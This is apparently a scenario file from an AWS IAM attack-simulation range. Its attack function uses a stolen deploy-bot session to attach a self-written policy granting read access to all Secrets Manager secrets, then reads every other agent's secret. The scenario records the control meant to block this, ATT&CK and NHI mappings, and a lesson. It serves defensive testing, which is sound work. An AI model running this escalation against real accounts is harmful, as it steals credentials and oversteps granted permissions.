"""Every secret of the account's agents, read with a policy that the reader wrote itself."""

from __future__ import annotations

import json

from iamrange.core import aws_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import Asset, AssetKind, Foothold, Loot, Material, Part, Scenario, Taken
from scenarios import workloads

READ_ALL = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [
            {
                "Effect": "Allow",
                "Action": ["secretsmanager:GetSecretValue", "secretsmanager:ListSecrets"],
                "Resource": "*",
            }
        ],
    }
)


def attack(foothold: Taken) -> Loot:
    """Grant oneself what the boundary still allows, and read what others keep there."""
    session = workloads.aws_session(foothold.aws_session)
    session.client("iam").put_role_policy(
        RoleName=foothold.knows["victim.aws_role_arn"].rsplit("/", 1)[1],
        PolicyName="reads-all",
        PolicyDocument=READ_ALL,
    )
    pages = session.client("secretsmanager").get_paginator("list_secrets")
    found = [
        secret["ARN"]
        for page in pages.paginate(Filters=[{"Key": "name", "Values": ["agents/"]}])
        for secret in page["SecretList"]
    ]
    own = foothold.knows["victim.aws_secret_arn"]
    return Loot(tuple(workloads.read_aws_secret(session, arn) for arn in found if arn != own))


SCENARIO = Scenario(
    claim="no policy, however wide, opens the secret of an agent that handles restricted data",
    blocked_by=(aws_controls.SECRET_RESOURCE_POLICY,),
    foothold=Foothold(Part.DEPLOY_BOT, Material.AWS_SESSION, taken_from="process memory"),
    asset=Asset(AssetKind.AWS_SECRET, Part.PAYMENTS_AGENT),
    knows=("victim.aws_role_arn", "victim.aws_secret_arn"),
    legitimate=workloads.DEPLOYS_WITHIN_THE_BOUNDARY,
    attack=attack,
    maps_to=(fw.NHI2, fw.NHI5, fw.T1555_006),
    lesson="A boundary drawn around all agents' secrets lets each of them into all the others'.",
)
